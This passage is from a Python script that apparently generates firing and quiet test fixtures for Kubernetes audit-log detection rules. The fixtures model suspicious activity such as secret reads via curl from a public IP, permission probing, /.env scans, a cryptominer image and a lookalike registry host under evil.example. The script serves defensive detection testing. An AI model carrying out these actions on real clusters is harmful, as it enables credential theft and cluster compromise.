        [exec_ev(T, DEV, "tar", "-xmf", "-", "-C", "/tmp", pod="db-0"),
         exec_ev(T + 1000, DEV, "tar", "tf", "/backup.tar", pod="db-0")],
    ),
    "secret-read-new-client": (
        [ev(T, DEV, "get", "secrets", "shop", "db", ip=OFFICE),
         ev(T + 15 * DAY, DEV, "get", "secrets", "shop", "db", ip=PUBLIC, agent="curl/8.5.0")],
        [ev(T, DEV, "get", "secrets", "shop", "db", ip=OFFICE),
         ev(T + 2 * DAY, DEV, "get", "secrets", "shop", "db", ip="10.20.0.99"),
         ev(T + 10 * DAY, DEV, "list", "secrets", "shop", ip=OFFICE),
         ev(T + 20 * DAY, DEV, "get", "secrets", "shop", "db", ip=OFFICE),
         ev(T + 21 * DAY, APP_SA, "get", "secrets", "shop", "db", ip="10.0.3.7", code=403)],
    ),
    "forbidden-probing": (
        [ev(T + i * 30_000, APP_SA, "list", r, "shop", code=403, ip="10.0.3.7")
         for i, r in enumerate(["secrets", "pods", "roles", "configmaps", "nodes"])],
        [ev(T + i * 30_000, APP_SA, "list", "secrets", "shop", code=403, ip="10.0.3.7") for i in range(6)]
        + [ev(T + i * 400_000, DEV, "list", r, "shop", code=403)
           for i, r in enumerate(["secrets", "pods", "roles", "configmaps"])],
    ),
    "anonymous-pod-write": (
        [ev(T, ANON, "create", "pods", "default", ip=PUBLIC, code=403, request=pod(pod_spec()))],
        [ev(T, ANON, "get", "pods", "default", ip=PUBLIC, code=403),
         ev(T + 1000, DEV, "create", "pods", "shop", "debug", request=pod(pod_spec()))],
    ),
    "anonymous-distributed-scan": (
        [ev(T + i * 20_000, ANON, "get", uri=["/.env", "/api/v1/secrets"][i % 2], ip=f"198.51.100.{i + 1}", code=403)
         for i in range(25)],
        [ev(T + i * 20_000, ANON, "get", uri="/.env", ip=f"198.51.100.{i + 1}", code=403) for i in range(15)]
        + [ev(T + i * 60_000, ANON, "get", uri="/version", ip=f"203.0.113.{i + 1}") for i in range(30)]
        + [ev(T + 1_000_000 + i * 60_000, ANON, "get", uri="/.env", ip=f"192.0.2.{i + 1}", code=403) for i in range(25)],
    ),
    "rbac-change-then-workload": (
        [ev(T, DEV, "create", "clusterroles", name="ops", group=RBAC, request=role("ClusterRole", "ops", [])),
         ev(T + 120_000, DEV, "create", "daemonsets", "shop", "agent", group="apps",
            request={**deployment(pod_spec()), "kind": "DaemonSet"})],
        # Wrong order; too late; someone else's workload; a masters member.
        [ev(T, DEV, "create", "daemonsets", "shop", "agent", group="apps", request={}),
         ev(T + 60_000, DEV, "create", "roles", "shop", "r", group=RBAC, request=role("Role", "r", [])),
         ev(T + 60_000 + 11 * 60_000, DEV, "patch", "deployments", "shop", "web", group="apps", request={}),
         ev(T + 2 * 3_600_000, DEV, "patch", "roles", "shop", "r", group=RBAC, request={}),
         ev(T + 2 * 3_600_000 + 60_000, APP_SA, "patch", "deployments", "shop", "web", group="apps", ip="10.0.3.7", request={}),
         ev(T + 3 * 3_600_000, ADMIN, "patch", "roles", "shop", "r", group=RBAC, request={}),
         ev(T + 3 * 3_600_000 + 60_000, ADMIN, "patch", "deployments", "shop", "web", group="apps", request={})],
    ),
    "system-namespace-foreign-image": (
        [ev(T, RS, "create", "pods", "kube-system", ip="10.0.0.5",
            request={**owned_pod("nginx-deployment-7998647bdf", pod_spec()), "metadata": {"namespace": "kube-system"}}),
         ev(T + 1000, DS, "create", "pods", "kube-public", ip="10.0.0.5",
            request=pod({"containers": [{"name": "a", "image": ECR_EKS + "/eks/coredns:v1.11.1"},
                                        {"name": "b", "image": "ghcr.io/acme/miner:latest"}]})),
         ev(T + 2000, DEV, "patch", "pods", "kube-system", "coredns-5d8f-abcde",
            request={"spec": {"containers": [{"name": "coredns",
                                              "image": "602401143452.dkr.ecr.us-west-2.amazonaws.com.evil.example/coredns"}]}})],
        [ev(T, RS, "create", "pods", "kube-system", ip="10.0.0.5",
            request=pod({"containers": [{"name": "coredns", "image": ECR_EKS + "/eks/coredns:v1.11.1"}]})),
         ev(T + 1000, DS, "create", "pods", "kube-system", ip="10.0.0.5",
            request=pod({"initContainers": [{"name": "init", "image": "602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni-init:v1.18.0"}],
                         "containers": [{"name": "aws-node", "image": "602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.18.0"}]})),
         ev(T + 2000, RS, "create", "pods", "kube-system", ip="10.0.0.5",
            request=pod({"containers": [{"name": "m", "image": "registry.k8s.io/metrics-server/metrics-server:v0.7.2"}]})),
         ev(T + 3000, RS, "create", "pods", "shop", ip="10.0.0.5", request=owned_pod("web-5d8f7c", pod_spec())),
         ev(T + 4000, DEV, "create", "pods", "kube-system", "x", code=403, request=pod(pod_spec())),
         ev(T + 5000, NODE, "patch", "pods", "kube-system", "coredns-5d8f-abcde", "status", ip="10.0.1.20",
            request={"status": {"phase": "Running"}})],
    ),
    "unlisted-user": (
        [ev(T, {"username": "arn:aws:sts::111122223333:assumed-role/Contractor/bob", "groups": ["system:authenticated"]},
            "list", "pods", "shop"),
         ev(T + 1000, {"username": "ops-mallory", "groups": ["ops", "system:authenticated"]}, "get", "secrets", "shop", "db")],
        [ev(T, DEV, "list", "pods", "shop"), ev(T + 1000, ADMIN, "get", "nodes"),
         ev(T + 2000, RS, "create", "pods", "shop", ip="10.0.0.5", request=owned_pod("web-5d8f7c", pod_spec())),
         ev(T + 3000, NODE, "get", "nodes", name="ip-10-0-1-20.ec2.internal", ip="10.0.1.20"),
         ev(T + 4000, APP_SA, "get", "configmaps", "shop", "cart"), ev(T + 5000, EKS, "get", "deployments", "kube-system", "coredns"),
         ev(T + 6000, ANON, "get", uri="/version", ip=PUBLIC)],
    ),
    "namespace-created": (
        [ev(T, DEV, "create", "namespaces", request={"kind": "Namespace", "metadata": {"name": "crypto"}}),
         ev(T + 1000, ADMIN, "create", "namespaces", name="tmp-debug", request={"kind": "Namespace"})],
        [ev(T, EKS, "create", "namespaces", name="amazon-guardduty", request={"kind": "Namespace"}),
         ev(T + 1000, DEV, "create", "namespaces", code=409, request={"kind": "Namespace", "metadata": {"name": "shop"}}),
         ev(T + 2000, DEV, "get", "namespaces", name="shop"),
         ev(T + 3000, NS_CTRL, "delete", "namespaces", name="old"),
         ev(T + 4000, DEV, "create", "namespaces", name="shop", sub="finalize", request={})],
    ),
}


def main():
    for rule, (fires, quiet) in CASES.items():
        for which, events in (("fires", fires), ("quiet", quiet)):
            with open(os.path.join(HERE, f"{rule}.{which}.ndjson"), "w") as f:
                for e in events:
                    f.write(json.dumps(e, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
